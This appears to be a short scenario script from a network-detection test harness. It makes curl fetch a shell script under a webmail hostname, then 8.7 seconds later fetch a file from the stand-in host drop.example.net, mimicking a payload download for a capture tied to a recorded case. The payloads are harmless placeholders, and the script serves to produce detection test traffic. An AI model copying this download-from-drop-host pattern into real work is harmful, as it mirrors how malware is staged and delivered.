title='The wire beside an0321 fires.chromium-script-sh'
what='HTTPS with the name of the webmail service, by curl in place of the browser; 8.7 seconds later a file from drop.example.net by HTTP. The capture is moved to the time of the recorded case.'
anchor=203.0.113.83:443 at=2026-11-21T09:33:36.106Z keep='dns tls http fileinfo flow'
prepare() { mkdir -p "$work/www/cvb"; head -c 3000 /dev/urandom > "$work/www/cvb/data"; printf '#!/bin/sh\necho ok\n' > "$work/www/cv_builder.sh"; }
act() {
  in_root curl -s -k -o /dev/null https://webmail.example.com/cv_builder.sh
  sleep 8.7
  in_root curl -s -o /dev/null http://drop.example.net/cvb/data
}
finish() { :; }
